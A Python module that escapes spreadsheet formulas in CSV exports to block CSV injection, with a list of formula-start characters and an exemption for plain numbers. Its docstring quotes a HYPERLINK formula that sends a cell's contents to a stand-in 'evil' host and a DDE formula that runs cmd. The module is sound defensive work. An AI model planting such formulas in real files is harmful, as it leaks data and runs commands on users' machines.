"""CSV for Excel, safe to open: every cell the project writes into a CSV meant for a spreadsheet goes through here.

A cell that begins (after spaces) with ``=``, ``+``, ``-``, ``@`` (or their full-width forms), a tab or a carriage
return is a formula to Excel and
LibreOffice (``=HYPERLINK("http://evil/?"&A1, "点击")``, ``@SUM(…)``, DDE ``=cmd|' /C calc'!A0``): such a cell is
written with a leading apostrophe, as OWASP recommends against CSV injection, so that it shows as the text it
was.  A plain number (``-3``, ``+5``, ``-1.5e3``) cannot carry a formula and is written as it is; the file is
UTF-8 with a BOM, so that Excel opens it as Chinese text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")   # the full-width forms too
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> str:
    """One cell's text, neutralised when a spreadsheet would take it for a formula."""
    text = "" if value is None else str(value)
    lead = text.lstrip(" \u3000")            # ' =1+1' is a formula to some spreadsheets as well
    if lead.startswith(FORMULA_START) and not _NUMBER.fullmatch(text.strip()):
        return "'" + text
    return text


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """Rows → CSV bytes (UTF-8 with BOM, CRLF line ends as RFC 4180 has them: a cell holding a CR or LF is then
    quoted, so that it cannot start a row of its own), every cell through :func:`cell`."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    for row in rows:
        w.writerow([cell(v) for v in row])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")
